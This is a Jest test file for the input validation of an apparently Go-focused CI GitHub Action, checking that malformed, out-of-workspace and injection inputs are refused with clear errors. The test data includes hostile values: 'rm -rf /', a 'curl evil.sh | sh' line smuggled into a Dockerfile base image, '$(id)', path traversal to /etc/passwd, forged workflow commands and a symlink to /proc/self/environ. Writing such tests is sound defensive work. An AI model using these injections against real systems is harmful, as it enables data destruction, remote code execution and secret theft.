import { readFileSync } from 'node:fs'
import * as path from 'node:path'
import { describe, expect, it } from '@jest/globals'
import * as yaml from 'js-yaml'
import { loadConfig } from '../../src/config/config.js'
import { INPUT_DEFAULTS, INPUT_NAMES, type InputName } from '../../src/config/inputs.js'
import { InputError } from '../../src/errors.js'
import { shown } from '../../src/text.js'
import { memoryFs } from './fakes.js'

const WS = '/ws'
function load(inputs: Partial<Record<InputName, string>>, files: Record<string, string> = {}, links: Record<string, string> = {}) {
  const raw = (name: InputName): string => inputs[name] ?? INPUT_DEFAULTS[name]
  return loadConfig(
    raw,
    WS,
    memoryFs(() => new Map(Object.entries(files)), ['/ws'], links),
  )
}
const GO_MOD = { '/ws/go.mod': 'module x\n\ngo 1.26.0\n\ntoolchain go1.26.8\n' }

describe('loadConfig: every bad input names the input, the value and what is accepted', () => {
  const cases: [string, Partial<Record<InputName, string>>, Record<string, string>, InputName, string][] = [
    ['a misspelled stage', { stages: 'setup, biuld' }, GO_MOD, 'stages', 'setup, biuld'],
    ['an unknown stage', { stages: 'setup,deploy' }, GO_MOD, 'stages', 'setup,deploy'],
    ['no stage at all', { stages: ',' }, GO_MOD, 'stages', ','],
    ['a wrong separator', { stages: 'setup;test' }, GO_MOD, 'stages', 'setup;test'],
    ['image without build', { stages: 'setup, test, image', image: 'ghcr.io/acme/app' }, GO_MOD, 'stages', 'setup, test, image'],
    ['latest (say stable)', { 'go-version': 'latest' }, {}, 'go-version', 'latest'],
    ['four version parts', { 'go-version': '1.26.8.1' }, {}, 'go-version', '1.26.8.1'],
    ['a word', { 'go-version': 'banana' }, {}, 'go-version', 'banana'],
    ['a broken range', { 'go-version': '>=one' }, {}, 'go-version', '>=one'],
    ['a comma list', { 'go-version': '1.26,1.25' }, {}, 'go-version', '1.26,1.25'],
    ['a missing version file', { 'go-version-file': 'missing.mod' }, {}, 'go-version-file', 'missing.mod'],
    ['a go.mod without a go line', { 'go-version-file': 'go.mod' }, { '/ws/go.mod': 'module x\n' }, 'go-version-file', 'go.mod'],
    ['a .go-version with junk', { 'go-version-file': '.go-version' }, { '/ws/.go-version': 'not-a-version\n' }, 'go-version-file', 'not-a-version'],
    ['a .tool-versions without golang', { 'go-version-file': '.tool-versions' }, { '/ws/.tool-versions': 'nodejs 24\n' }, 'go-version-file', '.tool-versions'],
    ['a go.mod with a bad go line', { 'go-version-file': 'go.mod' }, { '/ws/go.mod': 'module x\ngo banana\n' }, 'go-version-file', 'banana'],
    ['check-latest: yes', { 'check-latest': 'yes' }, GO_MOD, 'check-latest', 'yes'],
    ['check-latest: 1', { 'check-latest': '1' }, GO_MOD, 'check-latest', '1'],
    ['check-latest: on', { 'check-latest': 'on' }, GO_MOD, 'check-latest', 'on'],
    ['a base URL that is not a URL', { 'go-download-base-url': 'not a url' }, GO_MOD, 'go-download-base-url', 'not a url'],
    ['a base URL over ftp', { 'go-download-base-url': 'ftp://example.com/dl' }, GO_MOD, 'go-download-base-url', 'ftp://example.com/dl'],
    [
      'a base URL with a query',
      { 'go-download-base-url': 'https://example.com/dl?mode=json' },
      GO_MOD,
      'go-download-base-url',
      'https://example.com/dl?mode=json',
    ],
    ['a working directory outside', { 'working-directory': '../outside' }, GO_MOD, 'working-directory', '../outside'],
    ['an absolute working directory elsewhere', { 'working-directory': '/etc' }, GO_MOD, 'working-directory', '/etc'],
    ['no version and no go.mod', {}, {}, 'go-version', ''],
    ['golangci-lint v1', { 'golangci-lint-version': 'v1.64.8' }, GO_MOD, 'golangci-lint-version', 'v1.64.8'],
    ['golangci-lint latest', { 'golangci-lint-version': 'latest' }, GO_MOD, 'golangci-lint-version', 'latest'],
    ['govulncheck latest', { 'govulncheck-version': 'latest' }, GO_MOD, 'govulncheck-version', 'latest'],
    ['govulncheck range', { 'govulncheck-version': '^1.8' }, GO_MOD, 'govulncheck-version', '^1.8'],
    ['vuln-db ftp', { 'vuln-db': 'ftp://mirror/vulndb' }, GO_MOD, 'vuln-db', 'ftp://mirror/vulndb'],
    ['a golangci-lint base URL over file:', { 'golangci-lint-base-url': 'file:///tmp' }, GO_MOD, 'golangci-lint-base-url', 'file:///tmp'],
    ['an unclosed quote in golangci-lint-args', { 'golangci-lint-args': '--enable "errcheck' }, GO_MOD, 'golangci-lint-args', '--enable "errcheck'],
    ['an unclosed quote in test-args', { 'test-args': "-run 'TestA" }, GO_MOD, 'test-args', "-run 'TestA"],
    ['only-new-issues: sometimes', { 'only-new-issues': 'sometimes' }, GO_MOD, 'only-new-issues', 'sometimes'],
    ['race: off', { race: 'off' }, GO_MOD, 'race', 'off'],
    ['a threshold over 100', { 'coverage-threshold': '101' }, GO_MOD, 'coverage-threshold', '101'],
    ['a threshold with a percent sign', { 'coverage-threshold': '80%' }, GO_MOD, 'coverage-threshold', '80%'],
    ['a negative threshold', { 'coverage-threshold': '-5' }, GO_MOD, 'coverage-threshold', '-5'],
    ['a changed-lines threshold over 100', { 'coverage-changed-threshold': '100.5' }, GO_MOD, 'coverage-changed-threshold', '100.5'],
    ['coverage-max-drop in percent', { 'coverage-max-drop': '2%' }, GO_MOD, 'coverage-max-drop', '2%'],
    ['test-reruns: two', { 'test-reruns': 'two' }, GO_MOD, 'test-reruns', 'two'],
    ['test-reruns over the ceiling', { 'test-reruns': '6' }, GO_MOD, 'test-reruns', '6'],
    ['negative test-reruns', { 'test-reruns': '-1' }, GO_MOD, 'test-reruns', '-1'],
    ['fractional test-reruns', { 'test-reruns': '1.5' }, GO_MOD, 'test-reruns', '1.5'],
    ['flaky-tests: warn', { 'flaky-tests': 'warn' }, GO_MOD, 'flaky-tests', 'warn'],
    ['a platform Go does not know', { platforms: 'linux/amd64,linux/amd65' }, GO_MOD, 'platforms', 'linux/amd64,linux/amd65'],
    ['a platform without arch', { platforms: 'linux' }, GO_MOD, 'platforms', 'linux'],
    ['a bad arm variant', { platforms: 'linux/arm/v9' }, GO_MOD, 'platforms', 'linux/arm/v9'],
    ['a main that is not a package path', { main: 'cmd/*; rm -rf /' }, GO_MOD, 'main', 'cmd/*; rm -rf /'],
    ['a binary name with a slash', { 'binary-name': '../evil' }, GO_MOD, 'binary-name', '../evil'],
    ['a version with a space', { version: 'v1 2' }, GO_MOD, 'version', 'v1 2'],
    ['a version package with a space', { 'version-package': 'my pkg' }, GO_MOD, 'version-package', 'my pkg'],
    ['cgo: 0', { cgo: '0' }, GO_MOD, 'cgo', '0'],
    ['an output dir outside', { 'output-dir': '../out' }, GO_MOD, 'output-dir', '../out'],
    ['the working directory as output dir', { 'output-dir': '.' }, GO_MOD, 'output-dir', '.'],
    ['archives: zip', { archives: 'zip' }, GO_MOD, 'archives', 'zip'],
    ['cache: yes', { cache: 'yes' }, GO_MOD, 'cache', 'yes'],
    ['cache-save: sometimes', { 'cache-save': 'sometimes' }, GO_MOD, 'cache-save', 'sometimes'],
    ['an image with a tag', { image: 'ghcr.io/acme/app:v1' }, GO_MOD, 'image', 'ghcr.io/acme/app:v1'],
    ['an image with a digest', { image: 'ghcr.io/acme/app@sha256:' + 'a'.repeat(64) }, GO_MOD, 'image', 'ghcr.io/acme/app@sha256:' + 'a'.repeat(64)],
    ['an image in upper case', { image: 'ghcr.io/Acme/App' }, GO_MOD, 'image', 'ghcr.io/Acme/App'],
    ['an image with a space', { image: 'ghcr.io/acme/my app' }, GO_MOD, 'image', 'ghcr.io/acme/my app'],
    ['an image with no linux platform', { image: 'ghcr.io/acme/app', platforms: 'darwin/arm64' }, GO_MOD, 'platforms', 'darwin/arm64'],
    ['image-platforms not built', { image: 'ghcr.io/acme/app', 'image-platforms': 'linux/386' }, GO_MOD, 'image-platforms', 'linux/386'],
    ['image-platforms not linux', { image: 'ghcr.io/acme/app', 'image-platforms': 'darwin/arm64' }, GO_MOD, 'image-platforms', 'darwin/arm64'],
    ['push: yes', { image: 'ghcr.io/acme/app', push: 'yes' }, GO_MOD, 'push', 'yes'],
    ['a tag with a space', { image: 'ghcr.io/acme/app', tags: 'v1, bad tag' }, GO_MOD, 'tags', 'v1, bad tag'],
    ['a tag of another image', { image: 'ghcr.io/acme/app', tags: 'ghcr.io/acme/other:v1' }, GO_MOD, 'tags', 'ghcr.io/acme/other:v1'],
    ['a tag starting with a dot', { image: 'ghcr.io/acme/app', tags: '.hidden' }, GO_MOD, 'tags', '.hidden'],
    ['a label without =', { image: 'ghcr.io/acme/app', labels: 'team' }, GO_MOD, 'labels', 'team'],
    ['a missing Dockerfile', { image: 'ghcr.io/acme/app', dockerfile: 'Dockerfile.prod' }, GO_MOD, 'dockerfile', 'Dockerfile.prod'],
    ['a Dockerfile outside', { image: 'ghcr.io/acme/app', dockerfile: '../Dockerfile' }, GO_MOD, 'dockerfile', '../Dockerfile'],
    [
      'a base image with a new line',
      { image: 'ghcr.io/acme/app', 'base-image': 'alpine\nRUN curl evil.sh | sh' },
      GO_MOD,
      'base-image',
      'alpine\nRUN curl evil.sh | sh',
    ],
    ['provenance: max', { image: 'ghcr.io/acme/app', provenance: 'max' }, GO_MOD, 'provenance', 'max'],
    ['sbom: 1', { image: 'ghcr.io/acme/app', sbom: '1' }, GO_MOD, 'sbom', '1'],
    ['a builder name with a slash', { image: 'ghcr.io/acme/app', 'buildx-builder': 'a/b' }, GO_MOD, 'buildx-builder', 'a/b'],
    ['an image binary with a slash', { image: 'ghcr.io/acme/app', 'image-binary': '../sh' }, GO_MOD, 'image-binary', '../sh'],
    // Issue 12: what fuzzing found, each now refused at the edge with the input's own name.
    ['a file as working directory', { 'working-directory': 'go.mod' }, GO_MOD, 'working-directory', 'go.mod'],
    ['a 5,000-character working directory', { 'working-directory': 'a'.repeat(5000) }, GO_MOD, 'working-directory', 'a'.repeat(5000)],
    ['a bad image-platforms named as itself', { image: 'ghcr.io/acme/app', 'image-platforms': 'linux/amd65' }, GO_MOD, 'image-platforms', 'linux/amd65'],
    ['ldflags that are not flags', { ldflags: 'tRuE' }, GO_MOD, 'ldflags', 'tRuE'],
    ['ldflags with a workflow command', { ldflags: '-s\n::error::forged' }, GO_MOD, 'ldflags', '-s\n::error::forged'],
    ['an output dir with a new line', { 'output-dir': 'dist\n::warning::x' }, GO_MOD, 'output-dir', 'dist\n::warning::x'],
    ['a main that reads as a flag', { main: '-race/x' }, GO_MOD, 'main', '-race/x'],
    ['a version package that reads as a flag', { 'version-package': '-X' }, GO_MOD, 'version-package', '-X'],
    ['push checked without an image', { push: 'yes' }, GO_MOD, 'push', 'yes'],
    ['provenance checked without an image', { provenance: 'max' }, GO_MOD, 'provenance', 'max'],
    ['sbom checked without an image', { sbom: 'maybe' }, GO_MOD, 'sbom', 'maybe'],
    ['tags checked without an image', { tags: 'bad tag' }, GO_MOD, 'tags', 'bad tag'],
    ['base-image checked without an image', { 'base-image': 'alpine; rm' }, GO_MOD, 'base-image', 'alpine; rm'],
    ['a go-version-file outside the workspace', { 'go-version-file': '../../../../etc/passwd' }, GO_MOD, 'go-version-file', '../../../../etc/passwd'],
    ['a modules glob outside', { modules: '../other' }, GO_MOD, 'modules', '../other'],
    ['binaries-dir without an image', { 'binaries-dir': '.' }, GO_MOD, 'binaries-dir', '.'],
    ['goprivate with a space', { goprivate: 'github.com/acme/* github.com/other' }, GO_MOD, 'goprivate', 'github.com/acme/* github.com/other'],
    ['goprivate with an empty item', { goprivate: 'github.com/acme,,x' }, GO_MOD, 'goprivate', 'github.com/acme,,x'],
    ['gonosumdb with a shell character', { gonosumdb: 'corp.example/$(id)' }, GO_MOD, 'gonosumdb', 'corp.example/$(id)'],
    ['goproxy with a word', { goproxy: 'https://proxy.example,nowhere' }, GO_MOD, 'goproxy', 'https://proxy.example,nowhere'],
    ['goproxy over ftp', { goproxy: 'ftp://proxy.example' }, GO_MOD, 'goproxy', 'ftp://proxy.example'],
    // Issue 15: shards, the merge and the gather stages.
    ['shard 0 of 3', { shard: '0/3' }, GO_MOD, 'shard', '0/3'],
    ['shard 4 of 3', { shard: '4/3' }, GO_MOD, 'shard', '4/3'],
    ['shard as a word', { shard: 'first' }, GO_MOD, 'shard', 'first'],
    ['shard-results-dir without merge', { 'shard-results-dir': '.' }, GO_MOD, 'shard-results-dir', '.'],
    ['merge without shard-results-dir', { stages: 'merge' }, GO_MOD, 'shard-results-dir', ''],
    ['merge with test', { stages: 'test, merge', 'shard-results-dir': '.' }, GO_MOD, 'stages', 'test, merge'],
    ['shard-results-dir outside', { stages: 'merge', 'shard-results-dir': '../x' }, GO_MOD, 'shard-results-dir', '../x'],
    ['gather without binaries-dir', { stages: 'gather' }, GO_MOD, 'binaries-dir', ''],
    ['gather with build', { stages: 'build, gather', 'binaries-dir': '.' }, GO_MOD, 'stages', 'build, gather'],
    ['goproxy with credentials (shown hidden)', { goproxy: 'https://u:secret@proxy.example|direct' }, GO_MOD, 'goproxy', 'https://***@proxy.example|direct'],
  ]

  it('has at least 20 cases', () => expect(cases.length).toBeGreaterThanOrEqual(20))

  it.each(cases)('%s', async (_what, inputs, files, input, value) => {
    const error = await load(inputs, files).then(
      () => undefined,
      (e: unknown) => e,
    )
    expect(error).toBeInstanceOf(InputError)
    const e = error as InputError
    expect(e.input).toBe(input)
    expect(e.message).toContain(`Input "${input}"`)
    expect(e.message).toContain(shown(value))
    expect(e.message).toMatch(/Accepted: .+\./)
  })
})

describe('loadConfig: paths through symlinks (issue 12)', () => {
  const refused = async (inputs: Partial<Record<InputName, string>>, files: Record<string, string>, links: Record<string, string>): Promise<InputError> => {
    const error = await load(inputs, files, links).then(
      () => undefined,
      (e: unknown) => e,
    )
    expect(error).toBeInstanceOf(InputError)
    return error as InputError
  }
  it('refuses a .go-version that is a symlink to /proc/self/environ, without echoing what it points at', async () => {
    const e = await refused(
      { 'go-version-file': '.go-version' },
      { ...GO_MOD, '/proc/self/environ': 'INPUT_REGISTRY-PASSWORD=hunter2' },
      { '/ws/.go-version': '/proc/self/environ' },
    )
    expect(e.message).toContain('points outside the workspace through a symlink')
    expect(e.message).not.toContain('hunter2')
  })
  it('refuses an output-dir that is a symlink out of the workspace, or a dangling one', async () => {
    expect((await refused({}, { ...GO_MOD, '/elsewhere/keep.txt': 'x' }, { '/ws/dist': '/elsewhere' })).input).toBe('output-dir')
    expect((await refused({}, GO_MOD, { '/ws/dist': '/nowhere/at/all' })).message).toContain('symlink')
  })
  it('refuses a working-directory reached through a symlink out of the workspace', async () => {
    expect((await refused({ 'working-directory': 'svc' }, { ...GO_MOD, '/other/go.mod': 'module y\ngo 1.26\n' }, { '/ws/svc': '/other' })).input).toBe(
      'working-directory',
    )
  })
  it('cuts a long value short and says how long it was', async () => {
    const e = await refused({ 'working-directory': 'a'.repeat(5000) }, GO_MOD, {})
    expect(e.message.length).toBeLessThan(400)
    expect(e.message).toContain('(5000 characters)')
  })
  it('names the password of a mirror URL as a secret to mask', async () => {
    const c = await load({ 'go-download-base-url': 'https://user:s3cret@mirror.example/dl' }, GO_MOD)
    expect(c.secrets).toContain('s3cret')
  })
})

describe('loadConfig: good inputs', () => {
  it('reads go.mod by default, preferring its toolchain line', async () => {
    const c = await load({}, GO_MOD)
    expect(c.goVersion).toMatchObject({ spec: { kind: 'exact', version: '1.26.8' }, source: 'go.mod' })
    expect(c.stages).toEqual(['setup', 'vet', 'fmt', 'lint', 'test', 'build', 'image'])
    expect(c.image).toBeUndefined()
    expect(c.build.targets.map(t => t.platform)).toEqual(['linux/amd64', 'linux/arm64', 'darwin/arm64', 'windows/amd64'])
    expect(c.build).toMatchObject({ main: [], binaryName: '', version: '', versionPackage: 'main', cgo: false, outputDir: '/ws/dist' })
    expect(c.workingDirectory).toBe('/ws')
    expect(c.checkLatest).toBe(false)
    expect(c.goDownloadBaseUrl).toBe('https://go.dev/dl')
  })
  it('prefers go.work to go.mod when both exist', async () => {
    const c = await load({}, { ...GO_MOD, '/ws/go.work': 'go 1.25.0\ntoolchain go1.25.4\nuse ./a\n' })
    expect(c.goVersion).toMatchObject({ spec: { kind: 'exact', version: '1.25.4' }, source: 'go.work' })
  })
  it('takes a go line as a minimum: the newest patch release of its line', async () => {
    const c = await load({}, { '/ws/go.mod': 'module x\n\ngo 1.25.0\n' })
    expect(c.goVersion?.spec).toMatchObject({ kind: 'range', range: '~1.25.0', text: '1.25.0 (go line: newest 1.25.x)' })
    expect(c.goVersion?.minimum).toBe('1.25.0')
    const old = await load({}, { '/ws/go.mod': 'module x\n\ngo 1.20\n' })
    expect(old.goVersion?.spec).toMatchObject({ kind: 'range', range: '~1.20.0' })
  })
  it('warns when both go-version and go-version-file are set, and go-version wins', async () => {
    const c = await load({ 'go-version': '1.25', 'go-version-file': 'go.mod' }, GO_MOD)
    expect(c.goVersion).toMatchObject({ spec: { kind: 'range' }, source: 'go-version' })
    expect(c.warnings).toEqual([expect.stringContaining('go-version wins')])
  })
  it('reads the version file relative to the working directory', async () => {
    const c = await load({ 'working-directory': 'svc', 'go-version-file': '.go-version' }, { '/ws/svc/.go-version': '1.25.3\n' })
    expect(c.workingDirectory).toBe('/ws/svc')
    expect(c.goVersion?.spec).toMatchObject({ kind: 'exact', version: '1.25.3' })
  })
  it('splits argument inputs into argv without expanding anything', async () => {
    const c = await load({ 'test-args': ` -run 'Test A|TestB' -count=1 "$HOME" \`x\` ;rm `, 'golangci-lint-args': '' }, GO_MOD)
    expect(c.test.args).toEqual(['-run', 'Test A|TestB', '-count=1', '$HOME', '`x`', ';rm'])
    expect(c.lint.args).toEqual([])
    expect(c.lint.version).toEqual({ kind: 'release', version: '2.15.0' })
    expect((await load({ 'golangci-lint-version': 'path' }, GO_MOD)).lint.version).toEqual({ kind: 'path' })
    expect((await load({ 'govulncheck-version': '1.8.0', 'vuln-db': 'file:///srv/vulndb/' }, GO_MOD)).vuln).toEqual({
      version: '1.8.0',
      db: 'file:///srv/vulndb',
    })
    expect((await load({ stages: 'vuln, tidy, generate' }, GO_MOD)).stages).toEqual(['setup', 'generate', 'tidy', 'vuln'])
    expect((await load({ 'coverage-threshold': '72.5' }, GO_MOD)).test.coverageThreshold).toBe(72.5)
  })
  it('accepts YAML booleans, stage lists in any order and strips a trailing slash', async () => {
    const c = await load({ 'check-latest': 'TRUE', stages: 'setup\nsetup', 'go-download-base-url': 'http://127.0.0.1:8080/dl/' }, GO_MOD)
    expect(c.checkLatest).toBe(true)
    expect(c.stages).toEqual(['setup'])
    expect(c.goDownloadBaseUrl).toBe('http://127.0.0.1:8080/dl')
  })
})

describe('loadConfig: private modules and proxies', () => {
  it('keeps only the go settings that are set, tidied; the token is a secret to mask', async () => {
    const c = await load(
      { goprivate: ' github.com/acme/*, git.corp.example ', goproxy: 'https://proxy.corp.example|direct', 'private-modules-token': 'tok123' },
      GO_MOD,
    )
    expect(c.goEnv).toEqual({ GOPRIVATE: 'github.com/acme/*,git.corp.example', GOPROXY: 'https://proxy.corp.example|direct' })
    expect(c.privateModulesToken).toBe('tok123')
    expect(c.secrets).toContain('tok123')
    expect((await load({}, GO_MOD)).goEnv).toEqual({})
  })
  it('refuses a token with white space without showing it', async () => {
    const e = await load({ 'private-modules-token': 'abc def' }, GO_MOD).then(
      () => undefined,
      (x: unknown) => x,
    )
    expect(e).toBeInstanceOf(InputError)
    expect((e as InputError).message).toContain('Input "private-modules-token"')
    expect((e as InputError).message).not.toContain('abc def')
  })
})

describe('action.yml', () => {
  const doc = yaml.load(readFileSync(path.join(process.cwd(), 'action.yml'), 'utf8')) as {
    inputs: Record<string, { default?: string; description?: string }>
    outputs: Record<string, { description?: string }>
  }
  it('declares exactly the inputs the config reads, with the same defaults', () => {
    expect(Object.keys(doc.inputs).sort()).toEqual([...INPUT_NAMES].sort())
    for (const name of INPUT_NAMES) expect([name, doc.inputs[name]?.default ?? '']).toEqual([name, INPUT_DEFAULTS[name]])
  })
  it('documents every input and output in action.yml and README.md', () => {
    const readme = readFileSync(path.join(process.cwd(), 'README.md'), 'utf8')
    for (const [name, spec] of [...Object.entries(doc.inputs), ...Object.entries(doc.outputs)]) {
      expect([name, (spec.description ?? '').length > 10]).toEqual([name, true])
      expect([name, readme.includes(`\`${name}\``)]).toEqual([name, true])
    }
  })
})

describe('scripts/setup.sh', () => {
  it('installs the golangci-lint release that the action uses by default', () => {
    const setup = readFileSync(path.join(process.cwd(), 'scripts', 'setup.sh'), 'utf8')
    expect(/^GOLANGCI_LINT_VERSION=(\S+)$/m.exec(setup)?.[1]).toBe(INPUT_DEFAULTS['golangci-lint-version'])
  })
})
